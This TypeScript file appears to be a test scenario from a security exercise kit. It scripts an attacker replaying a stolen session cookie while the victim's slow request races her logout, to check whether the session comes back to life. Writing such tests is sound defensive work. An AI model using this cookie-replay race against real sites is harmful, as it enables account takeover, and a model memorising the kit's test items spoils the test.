import { attack } from "../kit/grader/attack.ts";
import { comesThrough } from "../kit/grader/through.ts";

export default attack(
  "bringing a session back after its logout",
  "The victim has logged out and the list is empty, but a moment later the thief is logged in again.",
  async ({ thief, victim, leak, say }) => {
    say("alice logs in on a shared computer. The thief copies her cookie.");
    await victim.login();
    const copied = victim.cookieHeader();
    say(
      "She sends a comment over a slow connection. The server has found her session, and waits for the comment's text.",
    );
    const text = Promise.withResolvers<string>();
    const slow = victim.ask("POST", "/comments", text.promise);
    const meanwhile = async () => {
      await victim.get("/comments");
      say("Meanwhile she logs out in another tab. The server removes her session, so the thief's copy opens nothing.");
      await victim.post("/logout");
      await thief.get("/dashboard", { headers: { cookie: copied } });
    };
    const rest = meanwhile();
    if (!(await comesThrough(rest, leak))) say("Meanwhile the server answers no other request.");
    say("Now the rest of the comment arrives, and the server finishes the comment's request.");
    text.resolve("text=Nice+shop.");
    await Promise.all([slow, rest]);
    say("The thief tries the same copy once more.");
    const page = await thief.get("/dashboard", { headers: { cookie: copied } });
    if (page.response.status === 200) return page.response.body;
    say("Nothing was written back. The session stays dead.");
    return undefined;
  },
);
